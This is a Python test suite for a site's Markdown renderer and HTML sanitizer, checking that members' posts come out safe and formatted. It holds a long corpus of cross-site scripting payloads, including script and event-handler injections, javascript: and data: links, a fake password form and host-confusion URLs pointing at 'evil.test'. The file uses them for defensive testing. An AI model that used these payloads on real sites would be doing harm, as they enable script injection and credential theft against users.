"""Markdown of members: what it can do, and that nothing hostile passes either of its two walls."""

from __future__ import annotations

import re
from html import escape, unescape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.text.markdown import (
    clean,
    is_safe,
    mentioned,
    named,
    names_in,
    plain,
    render,
)
from tests.text.house import check

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=//evil.test/x.swf>",
    "<form action=//evil.test><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>",
    "<div style='background:url(//evil.test/p.gif)'>x</div>",
    "<p onclick=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='//evil.test'>x</a>",
    "<a href='/\\evil.test'>x</a>",
    "<a href='\\\\evil.test'>x</a>",
    "<a href='https:evil.test'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/x' target=_blank rel=opener>x</a>",
    "<a href='/x' ping='//evil.test'>x</a>",
    "<a id=main href=/x>x</a><li id=user>x</li>",
    "<span class='btn vh' data-person='1\"onmouseover=alert(1)'>x</span>",
    "<span class=mention data-person=../admin>x</span>",
    "<div class='watch err' role=alert tabindex=-1>x</div>",
    "<video poster=//evil.test/p.gif><source src=//evil.test/x.mp4></video>",
    "<audio src=//evil.test/x.mp3 autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>everything after",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<a href=/x><a href=/y>nested</a></a></p></div></div>",
    "<table><tr><td><form><td></table>",
    "<h1>Not a heading of ours</h1><marquee>x</marquee>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<x\0y><scr\0ipt>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]
SOURCES = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.test)",
    "[x](/\\evil.test)",
    "[x](\\\\evil.test)",
    "[x](/%5Cevil.test)",
    "[x](https:evil.test)",
    "[x](http://[::1)",
    "[x](relative/path)",
    "[x](#main)",
    "[x](?next=//evil.test)",
    '[x](/ok "onmouseover=alert(1)")',
    '[x](/ok "\\"><script>alert(1)</script>")',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: //evil.test\n\n[x][x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://tracker.test/p.gif)",
    '!["onerror=alert(1)](https://tracker.test/p.gif)',
    "![x](//tracker.test/p.gif)",
    "![x](data:image/png;base64,AAAA)",
    "[![x](https://tracker.test/p.gif)](javascript:alert(1))",
    'http://evil.test/"onmouseover=alert(1)',
    "https://evil.test/<script>alert(1)</script>",
    "javascript://evil.test/%0aalert(1)",
    "@[<img src=x onerror=alert(1)>](person:1)",
    '@["onmouseover="alert(1)](person:1)',
    "@[x](person:1 onclick=alert(1))",
    "@[x](person:-1) @[x](person:999999999999999999999)",
    "@[x](javascript:alert(1))",
    '```"><script>alert(1)</script>\nx\n```',
    "``` js onclick=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<script>|x|\n|:-:|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    '[^"><script>]\n\n[^"><script>]: x',
    "[^1]\n\n[^1]: [x](javascript:alert(1)) <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "*<b onclick=alert(1)>*",
    "> <script>\n> alert(1)\n> </script>",
    "- <svg onload=alert(1)>",
    "x\u2028<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<a href='x'>\n\n[y](javascript:alert(1))\n\n</a>",
]
CORPUS = [*MARKUP, *SOURCES]


def test_corpus_is_large_and_without_doubles():
    assert len(set(CORPUS)) == len(CORPUS) >= 100


@pytest.mark.parametrize("source", CORPUS)
def test_hostile_text_comes_out_as_the_house_rules_say(source):
    for text in (source, f"> {source}", f"- {source}", f"Words {source} words", f"| {source} |\n|-|\n"):
        made = render(text, key="k")
        check(made)
        assert clean(made) == made


@pytest.mark.parametrize("source", CORPUS)
def test_second_wall_holds_by_itself(source):
    made = clean(clean(source))
    check(clean(source))
    assert clean(made) == made


@pytest.mark.parametrize("source", CORPUS)
def test_plain_words_are_one_line_of_text(source):
    words = plain(f"{source}\n\nNext *line*")
    assert "\n" not in words
    assert "Next line" in words


PIECES = [
    *CORPUS,
    *(
        "<",
        ">",
        "[",
        "]",
        "(",
        ")",
        "!",
        "`",
        "```\n",
        "*",
        "_",
        "~~",
        "|",
        "\n",
        "\n\n",
        "    ",
        "> ",
        "- ",
        "1. ",
        "#",
    ),
    *("\\", "&", ";", "&#", "&#x", ":", "//", "javascript:", "data:", "https://", "@[", "](person:", "[^a]", "[^a]: "),
    *('"', "'", "=", " on", "\t", "\r", "\0", "\ufffe", "\u202e", "href=", "style=", "<a ", "<!--", "-->", "</"),
]
hostile = st.lists(st.sampled_from(PIECES) | st.text(max_size=6), max_size=14).map("".join)
quick = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@quick
@given(hostile)
def test_whatever_is_written_keeps_the_house_rules(source):
    check(render(source, key="k"))
    assert "\n" not in plain(source)


@quick
@given(hostile)
def test_whatever_html_comes_to_the_second_wall_keeps_the_house_rules(source):
    check(clean(source))


# --- What it can do -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "made"),
    [
        ("**b** _i_ ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"),
        ("a\nb  \nc", "<p>a\nb<br>\nc</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
        ("# Title", "<h3>Title</h3>\n"),
        ("###### Small", "<h3>Small</h3>\n"),
        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>\n"),
        ("@[Bo Li](person:7)", '<p><span class="mention" data-person="7">@Bo Li</span></p>\n'),
    ],
)
def test_what_members_write(source, made):
    assert render(source, key="k") == made


def test_links_to_the_web_to_this_site_and_to_addresses():
    rel = 'rel="nofollow ugc noopener noreferrer"'
    made = render("[a](https://x.test/?a=1&b=2) [b](/lg/3.2/) <c@x.test> https://y.test/z", key="k")
    assert made == (
        f'<p><a href="https://x.test/?a=1&amp;b=2" {rel}>a</a> <a href="/lg/3.2/" {rel}>b</a> '
        f'<a href="mailto:c@x.test" {rel}>c@x.test</a> <a href="https://y.test/z" {rel}>https://y.test/z</a></p>\n'
    )


@pytest.mark.parametrize(
    ("marks", "levels"),
    [
        ("# ## ###", "345"),
        ("## ###", "34"),
        ("## #### ######", "345"),
        ("### # ## ####", "3345"),
        ("# ### ## ####", "3445"),
        ("# ## ### #### ##### ###### #", "3456663"),
    ],
)
def test_headings_leave_out_no_level(marks, levels):
    made = render("\n\n".join(f"{mark} Title" for mark in marks.split()), key="k")
    assert "".join(re.findall(r"<h(\d)>Title</h\1>", made)) == levels


def test_headings_inside_a_quote_follow_the_others():
    assert "<h4>B</h4>" in render("## A\n\n> ### B", key="k")


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("See https://a.uk/b.", "https://a.uk/b"),
        ("(https://a.uk/b_(c)), then", "https://a.uk/b_(c)"),
        ("**https://a.uk/b**", "https://a.uk/b"),
        ("“https://a.uk/b”", "https://a.uk/b"),
        ("_see HTTPS://a.uk/_b_", "HTTPS://a.uk/_b"),
        ("|a|\n|-|\n|https://a.uk/b|", "https://a.uk/b"),
        ("http://localhost:8000/x?a=1&b=*c", "http://localhost:8000/x?a=1&amp;b=*c"),
    ],
)
def test_address_in_the_text_becomes_a_link_without_the_end_of_its_sentence(source, address):
    assert re.findall(r'href="([^"]*)"', render(source, key="k")) == [address]


@pytest.mark.parametrize(
    "source",
    ["xhttp://a.uk", "http://", "http://?a", "`http://a.uk`", "ftp://a.uk", "[http://b.uk](/a/)", "\\http\\://a.uk"],
)
def test_what_is_no_address_becomes_no_link_to_one(source):
    assert 'href="http' not in render(source, key="k")


@pytest.mark.parametrize(
    "address",
    [
        *("//evil.test", "///evil.test", "////evil.test", "//////evil.test", "/\\evil.test", "\\/evil.test"),
        *("\\\\evil.test", "/\\/evil.test", "/\t/evil.test", "/\n/evil.test", "\t//evil.test", " //evil.test"),
        *("/\r/evil.test", "\x01//evil.test", "\x1f/x", "https:evil.test", "https:/evil.test", "https:///evil.test"),
        *("http://name:word@evil.test/", "http://name@evil.test/", "https://@evil.test", "https://a.uk@evil.test"),
        *("http://:80/", "mailto://evil.test", f"https://a.uk/{'a' * 2000}"),
    ],
)
def test_link_that_a_browser_takes_for_another_site_or_that_hides_its_host_is_none(address):
    assert not is_safe(address)
    assert "href" not in clean(f'<a href="{escape(address)}">x</a>')
    made = render(
        f"{address}\n\n[x]({address}) [x](<{address}>) <{address}> ![x]({address})\n\n[y]: {address}\n\n[y]", key="k"
    )
    assert not [found for found in re.findall(r'href="([^"]*)"', made) if is_other_site(unescape(found))]


def is_other_site(address):
    """Say whether a browser leaves the site for an address as it is printed, or sends a name with it."""
    found = re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(33))))).replace("\\", "/")
    return found.startswith("//") or "@" in found


def test_image_is_a_link_to_it():
    made = render("![A plan](https://x.test/plan.png)", key="k")
    assert ">A plan</a>" in made
    assert "<img" not in made


def test_table_can_be_scrolled_by_keyboard():
    made = render("|a|b|\n|-|-:|\n|1|2|", key="k")
    assert '<div class="scroll" tabindex="0" role="group" aria-label="Table"><table>' in made
    assert '<th class="right">b</th>' in made


def test_footnotes_of_two_posts_have_ids_of_their_own():
    one, two = (render("A[^1]\n\n[^1]: Note", key=key) for key in ("one", "two"))
    assert 'id="fn-one-1"' in one
    assert 'href="#fnref-two-1"' in two
    assert plain("A[^1]\n\n[^1]: Note") == "A Note"


def test_people_who_are_named_are_found_once_in_order():
    assert mentioned("@[B](person:2) @[A](person:1) @[B](person:2) @[C](person:x) @C") == [2, 1]


def test_people_are_called_as_they_are_and_strangers_are_named_no_more():
    source = "@[x](person:2) @[The Mayor](person:3) @[x](person:02) `@[y](person:2)`"
    made = named(source, {2: "Bo Li"})
    assert made == "@[Bo Li](person:2) @The Mayor @[Bo Li](person:02) `@[Bo Li](person:2)`"
    assert names_in(made) == {2: "Bo Li"}


def test_plain_words_carry_no_marks():
    source = "# A\n\n**b** [c](https://x.test) <i>\n\n- d\n- e\n\n|f|g|\n|-|-|\n|h|i|\n\n@[Bo](person:1)"
    assert plain(source) == "A b c <i> d e f g h i @Bo"
